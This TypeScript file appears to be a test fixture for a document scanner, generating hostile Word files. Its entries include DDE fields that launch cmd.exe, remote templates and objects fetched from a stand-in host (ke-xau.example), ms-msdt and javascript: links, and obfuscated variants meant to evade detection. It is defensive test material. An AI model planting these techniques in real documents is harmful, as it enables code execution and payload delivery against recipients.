import { field, paragraph, wordFile, wordPart, wordXml } from './word-file.ts';

/** What an attacker tries, the type of the file, and the file. */
export type HostileFile = readonly [
  trick: string,
  type: string,
  make: () => Uint8Array | Promise<Uint8Array>,
];

const body = (code: string) => wordFile(`<w:p>${code}</w:p>`);
const CODES = [
  'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"',
  'DDE excel a b',
  'dde cmd x',
  'INCLUDETEXT "http://ke-xau.example/a.docx"',
  'IMPORT "\\\\\\\\ke-xau\\\\a.png"',
  'LINK Excel.Sheet.12 "\\\\\\\\ke-xau\\\\a.xlsx" a',
  'EMBED Package',
  'MACROBUTTON AutoOpen Bam',
  'DATABASE \\d "http://ke-xau.example"',
  'RD "http://ke-xau.example/a.docx"',
  'HYPERLINK "javascript:alert(1)"',
  'HYPERLINK "ms-msdt:/id PCWDiagnostic"',
  'HTMLCONTROL a',
  'AUTOTEXT x',
];
const escaped = (code: string) => code.replaceAll('"', '&quot;');
const fields: HostileFile[] = CODES.flatMap((code): HostileFile[] => [
  [`a field ${code.slice(0, 20)}`, 'docx', () => body(field('x', code))],
  [
    `a simple field ${code.slice(0, 20)}`,
    'docx',
    () => body(`<w:fldSimple w:instr=" ${escaped(code)} "/>`),
  ],
  [`a field letter by letter ${code.slice(0, 20)}`, 'docx', () => body(field('x', ...code))],
]);
const inPart = (code: string, word: string, root: string, name: string) => () =>
  wordFile('', { parts: [wordPart(word, root, `<w:p>${field('x', code)}</w:p>`, name)] });
const places: HostileFile[] = [
  ['DDE in a header', 'docx', inPart('DDEAUTO a b', 'header', 'hdr', 'header1')],
  ['DDE in a footer', 'docx', inPart('DDEAUTO a b', 'footer', 'ftr', 'footer1')],
  ['DDE in a footnote', 'docx', inPart('DDEAUTO a b', 'footnotes', 'footnotes', 'footnotes')],
  ['DDE in an endnote', 'docx', inPart('DDE a b', 'endnotes', 'endnotes', 'endnotes')],
  [
    'DDE split with text between',
    'docx',
    () =>
      body(
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DD</w:instrText></w:r><w:r><w:t>E</w:t></w:r><w:r><w:instrText> a b</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>',
      ),
  ],
  [
    'DDE over two paragraphs',
    'docx',
    () =>
      wordFile(
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText>DDE</w:instrText></w:r></w:p><w:p><w:r><w:instrText>AUTO a</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
      ),
  ],
  [
    'DDE made by a field inside',
    'docx',
    () =>
      body(
        `<w:r><w:fldChar w:fldCharType="begin"/></w:r>${field('DDE', 'QUOTE 68 68 69')}<w:r><w:fldChar w:fldCharType="end"/></w:r>`,
      ),
  ],
  [
    'DDE that never ends',
    'docx',
    () =>
      body(
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO a</w:instrText></w:r>',
      ),
  ],
  ['DDE without a field', 'docx', () => body('<w:r><w:instrText>DDEAUTO a</w:instrText></w:r>')],
  ['DDE in wide letters', 'docx', () => body(field('x', 'ＤＤＥＡＵＴＯ a b'))],
  ['DDE with signs that are not seen', 'docx', () => body(field('x', '\u200BDDEAUTO a b'))],
  [
    'DDE under another prefix',
    'docx',
    () =>
      wordFile('', {
        raw: {
          'word/document.xml': wordXml(
            'document',
            `<w:body><w:p>${field('x', 'DDEAUTO a')}</w:p></w:body>`,
          )
            .replaceAll('w:', 'q:')
            .replace('xmlns:q=', 'xmlns:q='),
        },
      }),
  ],
  ['DDE in letters by number', 'docx', () => body(field('x', '&#68;&#x44;E a b'))],
  ['DDE in a block of bytes', 'docx', () => body(field('x', '<![CDATA[DDEAUTO a b]]>'))],
  [
    'DDE in a text box',
    'docx',
    () =>
      body(
        `<w:r><w:pict><v:shape><v:textbox><w:txbxContent><w:p>${field('x', 'DDE a b')}</w:p></w:txbxContent></v:textbox></v:shape></w:pict></w:r>`,
      ),
  ],
  [
    'DDE deleted by a tracked change',
    'docx',
    () =>
      body(
        '<w:del w:id="1" w:author="a"><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:delInstrText>DDE a b</w:delInstrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:del>',
      ),
  ],
  [
    'a form field that runs a macro',
    'docx',
    () =>
      body(
        '<w:r><w:fldChar w:fldCharType="begin"><w:ffData><w:entryMacro w:val="x"/></w:ffData></w:fldChar></w:r>',
      ),
  ],
  [
    'a link that runs a script',
    'docx',
    () =>
      wordFile(paragraph('x'), { links: [{ word: 'hyperlink', target: 'javascript:alert(1)' }] }),
  ],
  [
    'a link that runs a script, its name broken',
    'docx',
    () =>
      wordFile(paragraph('x'), {
        links: [{ word: 'hyperlink', target: 'java&#9;script:alert(1)' }],
      }),
  ],
  [
    'a link to a search of Windows',
    'docx',
    () => wordFile(paragraph('x'), { links: [{ word: 'hyperlink', target: 'search-ms:query=a' }] }),
  ],
  [
    'a template on the web',
    'docx',
    () =>
      wordFile('', {
        parts: [wordPart('settings', 'settings', '<w:attachedTemplate r:id="t"/>')],
        links: [
          {
            word: 'attachedTemplate',
            target: 'http://ke-xau.example/a.dotm',
            from: 'word/settings.xml',
            id: 't',
          },
        ],
      }),
  ],
  [
    'a template on a share',
    'docx',
    () =>
      wordFile('', {
        parts: [wordPart('settings', 'settings', '')],
        links: [
          { word: 'attachedTemplate', target: '\\\\ke-xau\\a.dotm', from: 'word/settings.xml' },
        ],
      }),
  ],
  [
    'a template on the web, written as a file',
    'docx',
    () =>
      wordFile('', {
        parts: [wordPart('settings', 'settings', '')],
        links: [
          {
            word: 'attachedTemplate',
            target: 'file://ke-xau.example/a.dotm',
            from: 'word/settings.xml',
          },
        ],
      }),
  ],
  [
    'a picture on the web only',
    'docx',
    () =>
      wordFile('<w:p><w:r><w:drawing><a:blip r:link="p"/></w:drawing></w:r></w:p>', {
        links: [{ word: 'image', target: 'http://ke-xau.example/a.png', id: 'p' }],
      }),
  ],
  [
    'an old picture on the web',
    'docx',
    () =>
      body(
        '<w:r><w:pict><v:shape><v:imagedata src="http://ke-xau.example/a.png"/></v:shape></w:pict></w:r>',
      ),
  ],
  [
    'a frame on the web',
    'docx',
    () => wordFile('', { links: [{ word: 'frame', target: 'http://ke-xau.example/' }] }),
  ],
  [
    'a part of another document',
    'docx',
    () =>
      wordFile('', { links: [{ word: 'subDocument', target: 'http://ke-xau.example/a.docx' }] }),
  ],
  [
    'an object on the web',
    'docx',
    () => wordFile('', { links: [{ word: 'oleObject', target: 'http://ke-xau.example/a' }] }),
  ],
  [
    'a relationship of no known kind',
    'docx',
    () =>
      wordFile('', {
        links: [
          { word: 'http://ke-xau.example/relationships/x', target: 'http://ke-xau.example/a' },
        ],
      }),
  ],
  [
    'a mode that is neither',
    'docx',
    () =>
      wordFile('', {
        links: [
          { word: 'attachedTemplate', target: 'http://ke-xau.example/a.dotm', mode: 'external' },
        ],
      }),
  ],
];

export const hostileWord: readonly HostileFile[] = [...fields, ...places];
